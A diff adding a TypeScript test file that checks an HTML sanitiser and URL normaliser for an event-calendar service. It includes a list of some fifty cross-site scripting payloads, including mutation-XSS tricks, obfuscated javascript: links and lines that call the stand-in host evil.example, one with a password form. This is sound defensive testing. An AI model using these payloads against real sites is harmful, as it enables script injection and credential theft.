@@ -1,0 +1,279 @@
+import { load } from 'cheerio';
+import fc from 'fast-check';
+import { describe, expect, it } from 'vitest';
+import { safeHtml, safeUrl } from '#records/html';
+
+const PAGE = 'https://calendar.example/event/lantern-walk/';
+
+const ALLOWED_ATTRIBUTES = new Set('href rel hreflang title datetime scope colspan rowspan lang dir'.split(' '));
+const FORBIDDEN =
+  'script,style,iframe,frame,object,embed,form,input,button,textarea,select,img,picture,video,audio,source,svg,math,link,meta,base,template,noscript,xmp,title,h1';
+
+/** What is dangerous in some HTML when it is read as browsers read it. */
+function dangers(html: string): string[] {
+  const $ = load(html, null, false);
+  const found = $(FORBIDDEN)
+    .toArray()
+    .map((element) => `<${element.tagName}>`);
+  $('*').each((_, element) => {
+    if (!('attribs' in element)) return;
+    for (const [name, value] of Object.entries(element.attribs)) {
+      if (!ALLOWED_ATTRIBUTES.has(name)) found.push(`${name}=`);
+      if (name === 'href' && !/^(?:https?:\/\/|mailto:|tel:)/.test(value)) found.push(`href=${value}`);
+    }
+  });
+  return found;
+}
+
+const PAYLOADS = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<scr\u0000ipt>alert(1)</scr\u0000ipt>',
+  '<img src=x onerror=alert(1)>',
+  '<img src="x` `<script>alert(1)</script>"` `>',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><animate xlink:href=#a attributeName=href values=javascript:alert(1) /><a id=a><text>x</text></a></svg>',
+  '<svg><style><img src=x onerror=alert(1)></style></svg>',
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+  '<math><a xlink:href="javascript:alert(1)">x</a></math>',
+  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<textarea></textarea/><img src=x onerror=alert(1)>',
+  '<title></title><img src=x onerror=alert(1)>',
+  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
+  '<template><script>alert(1)</script></template>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<iframe src="https://video.example/?<script>alert(1)</script>"></iframe>',
+  '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
+  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href=" \u0001javascript:alert(1)">x</a>',
+  '<a href="jAvAsCrIpT&colon;alert(1)">x</a>',
+  '<a href="java&#10;script:alert(1)">x</a>',
+  '<a href="java&Tab;script:alert(1)">x</a>',
+  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1)">x</a>',
+  '<a href="vbscript:msgbox(1)">x</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
+  '<a href="blob:https://x.example/1">x</a><a href="file:///etc/passwd">y</a>',
+  '<a href="https://x.example" onclick="alert(1)" style="position:fixed" target="_top" ping="https://evil.example">x</a>',
+  '<p onmouseover=alert(1) style="background:url(javascript:alert(1))" class=c id=i>x</p>',
+  '<p lang="en" onclick\n=\n"alert(1)">x</p>',
+  '<p/onclick=alert(1)>x</p>',
+  '<b "><script>alert(1)</script>">x</b>',
+  '<style>@import "https://evil.example/x.css";</style><link rel=stylesheet href=x><meta http-equiv=refresh content="0;url=javascript:alert(1)"><base href="javascript:/">',
+  '<form action="https://evil.example"><input name=password><button formaction="javascript:alert(1)">Go</button></form>',
+  '<select><option><style></option></select><img src=x onerror=alert(1)></style>',
+  '<details open ontoggle=alert(1)><summary>x</summary></details>',
+  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>',
+  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</td></table>',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '<!--><script>alert(1)</script>-->',
+  '<!--[if IE]><script>alert(1)</script><![endif]-->',
+  '<?php echo "<script>alert(1)</script>" ?>',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '<time datetime="&quot;><script>alert(1)</script>">x</time>',
+  '<abbr title="&lt;/abbr&gt;&lt;script&gt;alert(1)&lt;/script&gt;">x</abbr>',
+  '<a hreflang="&quot; onclick=alert(1) x=&quot;" href="https://x.example">x</a>',
+  '<plaintext><script>alert(1)</script>',
+  '[vc_row]<div class="wpb_wrapper"><script>alert(1)</script></div>[/vc_row]',
+] as const;
+
+describe('safe HTML', () => {
+  it.each(PAYLOADS)('holds nothing that runs or loads after %j', (payload) => {
+    const around = `<p>before</p>${payload}`;
+    for (const html of [payload, around]) {
+      const safe = safeHtml(html, PAGE);
+      expect(dangers(safe)).toEqual([]);
+      expect(safeHtml(safe, PAGE)).toBe(safe);
+    }
+    expect(safeHtml(around)).toContain('<p>before</p>');
+  });
+
+  const anything = fc.oneof(
+    { weight: 3, arbitrary: fc.constantFrom(...PAYLOADS) },
+    {
+      weight: 4,
+      arbitrary: fc.constantFrom(
+        ...'<p> </p> <b> </b> <a href="https://a.example"> </a> <a> <h1> </h1> <ul> <li> </ul> <table> <tr> <td> </table> <iframe src="//v.example/1"> </iframe> <svg> </svg> <style> </style> <div lang=en> </div> <span> </span> <!-- --> <br> " \' < > & &lt; &amp;quot; &nbsp;'.split(
+          ' ',
+        ),
+      ),
+    },
+    { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 12 }) },
+    { weight: 1, arbitrary: fc.webUrl().map((url) => `<a href="${url}">link</a>`) },
+  );
+  const html = fc.array(anything, { maxLength: 12 }).map((parts) => parts.join(''));
+
+  it('holds nothing that runs or loads, whatever was served', () => {
+    fc.assert(
+      fc.property(html, (served) => {
+        expect(dangers(safeHtml(served, PAGE))).toEqual([]);
+        expect(dangers(safeHtml(served))).toEqual([]);
+      }),
+      { numRuns: 1000 },
+    );
+  });
+
+  const element = (tags: readonly string[], inside: fc.Arbitrary<string>) =>
+    fc
+      .tuple(fc.constantFrom(...tags), fc.array(inside, { maxLength: 4 }))
+      .map(([tag, children]) => `<${tag}>${children.join('')}</${tag.split(' ')[0]}>`);
+  const nested = fc.letrec<{ block: string; line: string }>((tie) => ({
+    block: fc.oneof(
+      { depthSize: 'small', withCrossShrink: true },
+      tie('line'),
+      element(['div', 'section', 'ul', 'blockquote class=x', 'form', 'table', 'svg', 'custom-tag'], tie('block')),
+      element(['p', 'h1', 'h3 id=y', 'iframe src="//v.example/1"', 'script', 'style'], tie('line')),
+    ),
+    line: fc.oneof(
+      { depthSize: 'small', withCrossShrink: true },
+      fc.string({ unit: 'grapheme', maxLength: 8 }).map((text) => text.replaceAll('<', '&lt;')),
+      fc.constantFrom('<br>', '<img src=a.jpg>', '&amp;lt;', '&nbsp;', '<input name=q>'),
+      element(
+        ['b', 'em', 'span onclick=x', 'font', 'a href="/x"', 'a href="https://a.example/ä?b&amp;c"'],
+        tie('line'),
+      ),
+    ),
+  }));
+
+  it('is the same after a second cleaning, for whatever is properly nested', () => {
+    fc.assert(
+      fc.property(nested.block, (served) => {
+        const safe = safeHtml(served, PAGE);
+        expect(safeHtml(safe, PAGE)).toBe(safe);
+      }),
+      { numRuns: 1000 },
+    );
+  });
+
+  it('reads the same after a second cleaning, whatever was served', () => {
+    const text = (from: string) => load(from, null, false).text().trim();
+    fc.assert(
+      fc.property(html, (served) => {
+        const safe = safeHtml(served, PAGE);
+        expect(text(safeHtml(safe, PAGE))).toBe(text(safe));
+      }),
+      { numRuns: 1000 },
+    );
+  });
+
+  it('keeps the structure of text', () => {
+    const kept =
+      '<h2>Programme</h2><p>Doors at <strong>eight</strong>,<br /><em>really</em>.</p><ul><li>Bach</li></ul>' +
+      '<table><tbody><tr><th scope="row">Row</th><td colspan="2">cell</td></tr></tbody></table>' +
+      '<blockquote lang="ca">Cançó</blockquote><p dir="rtl">שלום</p><time datetime="2026-12-01">soon</time>';
+    expect(safeHtml(kept)).toBe(kept);
+  });
+
+  it('turns first headings into second ones, because the page’s title is its first', () => {
+    expect(safeHtml('<h1 class="x">Programme</h1>')).toBe('<h2>Programme</h2>');
+  });
+
+  it('turns frames into plain links, and drops those that lead nowhere', () => {
+    const link =
+      '<a href="https://video.example/embed/1?a=1&amp;b=2" rel="nofollow ugc">https://video.example/embed/1?a=1&amp;b=2</a>';
+    expect(safeHtml('<iframe src="https://video.example/embed/1?a=1&amp;b=2" width="560"></iframe>')).toBe(link);
+    expect(safeHtml('<iframe src="//video.example/embed/1?a=1&amp;b=2"></iframe>')).toBe(link);
+    expect(safeHtml('<p>x</p><iframe></iframe><iframe src="about:blank"></iframe>')).toBe('<p>x</p>');
+  });
+
+  it('marks links as the work of others', () => {
+    expect(safeHtml('<a href="https://a.example/" rel="opener" target="_blank">a</a>')).toBe(
+      '<a href="https://a.example/" rel="nofollow ugc">a</a>',
+    );
+  });
+
+  it('takes relative links as relative to the record’s page on the service', () => {
+    const of = (href: string) => load(safeHtml(`<a href="${href}">x</a>`, PAGE))('a').attr('href');
+    expect(of('/contact')).toBe('https://calendar.example/contact');
+    expect(of('map.pdf')).toBe('https://calendar.example/event/lantern-walk/map.pdf');
+    expect(of('#tickets')).toBe(`${PAGE}#tickets`);
+    expect(of('//other.example/x')).toBe('https://other.example/x');
+    expect(of('mailto:a@b.example')).toBe('mailto:a@b.example');
+  });
+
+  it('keeps the text of links that lead nowhere', () => {
+    expect(safeHtml('<a href="/contact">Contact</a>, <a name="top">top</a>, <a href="https://">x</a>')).toBe(
+      '<span>Contact</span>, <span>top</span>, <span>x</span>',
+    );
+    expect(safeHtml('<a href="/contact">Contact</a>', '')).toBe('<span>Contact</span>');
+  });
+
+  it('drops links without text, as are left where an image was', () => {
+    expect(safeHtml('<p><a href="https://a.example/"><img src="a.jpg" alt=""></a>text</p>')).toBe('<p>text</p>');
+  });
+
+  it('takes a frame out of the link around it', () => {
+    expect(safeHtml('<a href="https://a.example/"><iframe src="https://b.example/"></iframe></a>')).toBe(
+      '<a href="https://b.example/" rel="nofollow ugc">https://b.example/</a>',
+    );
+  });
+
+  it('is empty where nothing is left', () => {
+    for (const empty of ['', ' \n ', '<script>x</script>', '<img src="a.jpg">']) expect(safeHtml(empty)).toBe('');
+  });
+});
+
+describe('a safe URL', () => {
+  it.each([
+    ['https://a.example/x?y=1#z', 'https://a.example/x?y=1#z'],
+    ['HTTP://A.EXAMPLE', 'http://a.example/'],
+    ['https://a.example/?a=1&amp;b=2', 'https://a.example/?a=1&b=2'],
+    [' https://a.example ', 'https://a.example/'],
+    ['rockon.org', 'https://rockon.org/'],
+    ['www.rockon.org/what is/ñ', 'https://www.rockon.org/what%20is/%C3%B1'],
+    ['rockon.org:8443/x', 'https://rockon.org:8443/x'],
+    ['rockon.org?x=a@b.example', 'https://rockon.org/?x=a@b.example'],
+    ['//rockon.org/x', 'https://rockon.org/x'],
+    ['http:\\\\rockon.org\\x', 'http://rockon.org/x'],
+    ['müsik.example', 'https://xn--msik-0ra.example/'],
+    ['https://a.example/"onclick=x', 'https://a.example/%22onclick=x'],
+  ])('takes %j as %j', (served, url) => {
+    expect(safeUrl(served)).toBe(url);
+  });
+
+  it.each([
+    undefined,
+    '',
+    '  ',
+    'javascript:alert(1)',
+    'java\nscript:alert(1)',
+    ' \u0001javascript:alert(1)',
+    'data:text/html,x',
+    'ftp://a.example/',
+    'mailto:a@b.example',
+    'someone@b.example',
+    'https://',
+    'http:///',
+    '/events/x',
+    'n/a',
+    'none',
+    'TBD',
+    '-',
+    'see the poster',
+    'call 972.000.001 first',
+    '[gallery ids="1"]',
+  ])('takes %j for none', (served) => {
+    expect(safeUrl(served)).toBeUndefined();
+  });
+
+  it('is http or https and stays as it is, whatever was given', () => {
+    const given = fc.oneof(
+      fc.webUrl(),
+      fc.string({ unit: 'binary' }),
+      fc.string().map((rest) => `javascript:${rest}`),
+    );
+    fc.assert(
+      fc.property(given, (served) => {
+        const url = safeUrl(served);
+        if (url === undefined) return;
+        expect(url).toMatch(/^https?:\/\/[^/]/);
+        expect(url).not.toMatch(/[\s"<>]/);
+        expect(safeUrl(url)).toBe(url);
+      }),
+    );
+  });
+});
